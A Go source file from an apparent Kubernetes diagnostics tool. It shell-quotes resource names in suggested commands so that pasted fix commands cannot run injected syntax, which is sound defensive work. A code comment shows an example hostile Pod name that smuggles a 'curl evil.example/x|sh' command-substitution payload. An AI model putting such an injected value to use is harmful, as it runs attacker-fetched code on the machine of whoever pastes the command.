package report

import (
	"cmp"
	"fmt"
	"slices"
	"strings"

	"github.com/netmortem/netmortem/analyzer"
	"github.com/netmortem/netmortem/internal/shq"
)

// A finding's Decide and the code spans of its Fix are commands the reader
// pastes into a shell, and the rules build them from names in the bundle:
// a Pod, a Service, a namespace, a container. Kubernetes refuses names that
// hold shell syntax, but a bundle need not come from Kubernetes, and a Pod
// named "etcd-1$(curl -s evil.example/x|sh)" would run the payload when its
// command is pasted. pasteSafe is the last line of defence: each name of a
// finding (its Subject, its string Facts, the objects and files of its
// Evidence) that holds a character sh reads as syntax is quoted (package
// shq) wherever it appears in Decide or in a code span of Fix. Names of
// ordinary characters are left as they are, so nothing changes for a
// bundle Kubernetes would accept.

// shellSyntax are the characters sh gives a meaning to (besides the space,
// which splits a word but runs nothing) and the line breaks.
const shellSyntax = "$`\\\"'|&;<>()*?[]{}~#!\n\r"

// pasteSafe returns f with the names in its commands quoted for sh.
func pasteSafe(f analyzer.Finding) analyzer.Finding {
	names := hostileNames(f)
	if len(names) == 0 {
		return f
	}
	quoted := make([]string, 0, 2*len(names))
	for _, n := range names {
		quoted = append(quoted, n, shq.Quote(n))
	}
	quote := strings.NewReplacer(quoted...)
	if f.Decide != "" {
		f.Decide = quote.Replace(f.Decide)
	}
	if f.Fix != "" {
		var b strings.Builder
		for _, s := range splitSpans(f.Fix, names) {
			if s.code {
				b.WriteString("`" + quote.Replace(s.text) + "`")
			} else {
				b.WriteString(s.text)
			}
		}
		f.Fix = b.String()
	}
	return f
}

// hostileNames returns the names of f that hold shell syntax, longest
// first, so that a name is replaced before the shorter names inside it.
// An object "Pod ns/name" gives itself, "ns/name", "ns" and "name".
func hostileNames(f analyzer.Finding) []string {
	seen := map[string]bool{}
	var out []string
	add := func(s string) {
		if s == "" || seen[s] || !strings.ContainsAny(s, shellSyntax) {
			return
		}
		seen[s] = true
		out = append(out, s)
	}
	addObject := func(s string) {
		add(s)
		if _, name, ok := strings.Cut(s, " "); ok {
			add(name)
			s = name
		}
		if ns, name, ok := strings.Cut(s, "/"); ok {
			add(ns)
			add(name)
		}
	}
	for _, v := range f.Subject {
		addObject(v)
	}
	for _, v := range f.Facts {
		switch v := v.(type) {
		case string:
			addObject(v)
		case []string:
			for _, s := range v {
				addObject(s)
			}
		case fmt.Stringer:
			addObject(v.String())
		}
	}
	for _, e := range f.Evidence {
		addObject(e.Pos.Object)
		add(e.Pos.File)
	}
	slices.SortFunc(out, func(a, b string) int {
		return cmp.Or(cmp.Compare(len(b), len(a)), strings.Compare(a, b))
	})
	return out
}

// span is a piece of a Fix: prose, or the text of a code span.
type span struct {
	text string
	code bool
}

// splitSpans splits s into prose and code spans (`...`), reading each of
// atoms as text that neither opens nor closes a span, whatever backticks it
// holds: a name from the bundle with a backtick in it does not end the
// command it is part of.
func splitSpans(s string, atoms []string) []span {
	var out []span
	var cur strings.Builder
	code := false
	flush := func() {
		if cur.Len() > 0 || code {
			out = append(out, span{cur.String(), code})
		}
		cur.Reset()
	}
	for i := 0; i < len(s); {
		if a := atomAt(s[i:], atoms); a != "" {
			cur.WriteString(a)
			i += len(a)
			continue
		}
		if s[i] == '`' {
			flush()
			code = !code
			i++
			continue
		}
		cur.WriteByte(s[i])
		i++
	}
	if code {
		// An unclosed span is prose with its backtick, as CommonMark reads it.
		out = append(out, span{"`" + cur.String(), false})
	} else if cur.Len() > 0 {
		out = append(out, span{cur.String(), false})
	}
	return out
}

// atomAt returns the first (so the longest) of atoms that s begins with.
func atomAt(s string, atoms []string) string {
	for _, a := range atoms {
		if strings.HasPrefix(s, a) {
			return a
		}
	}
	return ""
}
